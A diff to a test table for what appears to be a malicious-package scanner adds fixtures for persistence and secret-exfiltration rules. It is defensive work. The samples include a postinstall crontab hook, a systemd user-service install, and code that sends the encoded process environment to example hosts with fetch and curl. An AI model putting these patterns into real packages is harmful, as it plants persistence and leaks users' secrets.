@@ -179,6 +179,11 @@ const rows: readonly Row[] = [
     },
   },
   {
+    rule: "capability/persists", // a build installs for the system, and not into a home
+    fires: { Makefile: 'install:\n\tcp a.service "$(HOME)/.config/systemd/user/a.service"\n', "a.service": "[Unit]\n" },
+    silent: { Makefile: 'install:\n\tcp a.service "$(DESTDIR)/lib/systemd/user/a.service"\n', "a.service": "[Unit]\n" },
+  },
+  {
     rule: "capability/persists",
     fires: { "package.json": `{"name":"a","scripts":{"postinstall":"(crontab -l; echo '@daily a') | crontab -"}}\n` },
     silent: { "package.json": '{"name":"a","scripts":{"postinstall":"crontab -l; crontab -r"}}\n' },
@@ -279,6 +284,13 @@ const rows: readonly Row[] = [
     })
     return { rule: "flow/secret-leaves", fires: of(fires), silent: of(silent) }
   }),
+  ...[
+    // Packed, in records in a list that a function spells, which hands on what it is given.
+    [
+      'const z = require("zlib"), t = (e) => JSON.stringify(e)\nconst sent = [{ a: 1 }, { of: { s: z.gzipSync(JSON.stringify(process.env)).toString("base64") } }].map((e) => t(e)).join("\\n")\nfetch("https://a.example.org/", { method: "POST", body: sent })\n',
+      'const z = require("zlib"), t = (e) => JSON.stringify(e)\nconst sent = [{ a: 1 }, { of: { s: z.gzipSync(JSON.stringify(process.env.LANG)).toString("base64") } }].map((e) => t(e)).join("\\n")\nfetch("https://a.example.org/", { method: "POST", body: sent })\n',
+    ],
+  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
   {
     rule: "flow/secret-leaves",
     fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
